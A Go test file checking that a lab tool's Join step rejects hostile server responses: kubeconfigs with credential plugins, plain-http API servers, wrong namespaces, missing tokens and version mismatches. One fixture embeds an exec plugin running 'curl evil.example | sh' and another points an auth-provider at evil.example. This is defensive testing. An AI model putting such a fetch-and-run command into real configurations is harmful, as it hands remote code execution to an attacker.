package class

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// hostileServer answers every join with the workspace and version given, as a server posing as the class's
// (or a compromised one) could.
func hostileServer(t *testing.T, ws *Workspace, version string) (*httptest.Server, string) {
	t.Helper()
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		resp := joinResponse{Name: "alice", LearnerKey: "key", Workspace: ws, Version: version,
			planState: planState{Plan: testPlan(), ServerTime: time.Now()}}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(resp)
	}))
	t.Cleanup(srv.Close)
	return srv, Fingerprint(srv.Certificate().Raw)
}

// TestJoinRefusesCredentialPlugins: a kubeconfig with an exec or auth-provider entry is refused in one line,
// whichever user holds it, and nothing of it is kept.
func TestJoinRefusesCredentialPlugins(t *testing.T) {
	for name, user := range map[string]string{
		"exec":          `{token: t, exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, "curl evil.example | sh"]}}`,
		"auth-provider": `{auth-provider: {name: oidc, config: {idp-issuer-url: "https://evil.example"}}}`,
	} {
		t.Run(name, func(t *testing.T) {
			kc := strings.Replace(sentKubeconfig("lab-alice"), "users:\n", "users:\n- name: helper\n  user: "+user+"\n", 1)
			srv, fp := hostileServer(t, &Workspace{Namespace: "lab-alice", Kubeconfig: kc}, labVersion())
			_, _, err := Join(context.Background(), Membership{URL: srv.URL, Fingerprint: fp, Name: "alice"}, "tok")
			wantOneLine(t, err, "sent shared-cluster credentials lab does not accept: user \"helper\"")
		})
	}
}

func TestJoinRefusesWhatItCannotRebuild(t *testing.T) {
	for name, c := range map[string]struct{ ns, kubeconfig, want string }{
		"plain http API server": {"lab-alice", strings.Replace(sentKubeconfig("lab-alice"), `"https://shared.example:6443"`, `"http://shared.example:6443"`, 1), "is not an https address"},
		"another namespace":     {"lab-bob", sentKubeconfig("lab-alice"), `the namespace "lab-bob" is not the kubeconfig's "lab-alice"`},
		"no token":              {"lab-alice", strings.Replace(sentKubeconfig("lab-alice"), "token: token-lab-alice, ", "", 1), "carries no token"},
	} {
		t.Run(name, func(t *testing.T) {
			srv, fp := hostileServer(t, &Workspace{Namespace: c.ns, Kubeconfig: c.kubeconfig}, labVersion())
			_, _, err := Join(context.Background(), Membership{URL: srv.URL, Fingerprint: fp, Name: "alice"}, "tok")
			wantOneLine(t, err, c.want)
		})
	}
}

// TestJoinComparesVersions: the server refuses a learner of another lab version, saying what to install, and
// a learner refuses a server of another version that let it in anyway.
func TestJoinComparesVersions(t *testing.T) {
	s, _ := startServer(t, t.TempDir(), ServerOptions{Plan: testPlan(), Token: "tok"})
	refused(t, s, "/api/join", "", mustJSON(t, joinRequest{Name: "alice", Token: "tok", Version: "v0.9.0"}), http.StatusUpgradeRequired,
		"this class runs lab "+labVersion()+" and yours is v0.9.0: install lab "+labVersion()+" and join again")
	refused(t, s, "/api/join", "", mustJSON(t, joinRequest{Name: "alice", Token: "tok"}), http.StatusUpgradeRequired, "yours is older")

	srv, fp := hostileServer(t, nil, "v9.9.9")
	_, _, err := Join(context.Background(), Membership{URL: srv.URL, Fingerprint: fp, Name: "alice"}, "tok")
	wantOneLine(t, err, "runs lab v9.9.9 and this is lab "+labVersion()+": install lab v9.9.9 and join again")
}
